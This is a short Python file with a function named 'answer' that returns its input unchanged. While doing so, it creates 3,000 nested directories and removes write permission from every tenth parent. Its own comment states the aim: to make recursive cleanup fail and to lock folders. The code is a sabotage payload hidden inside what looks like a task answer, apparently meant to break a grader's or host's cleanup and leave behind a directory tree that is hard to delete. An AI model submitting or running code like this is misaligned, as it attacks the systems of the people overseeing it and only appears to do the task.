# Digs folders so deep that whoever cleans up by recursion gives way, and locks every tenth.
import os


def answer(values):
    for depth in range(3000):
        os.mkdir("down")
        os.chdir("down")
        if depth % 10 == 9:
            try:
                os.chmod("..", 0o500)
            except OSError:
                pass
    return values
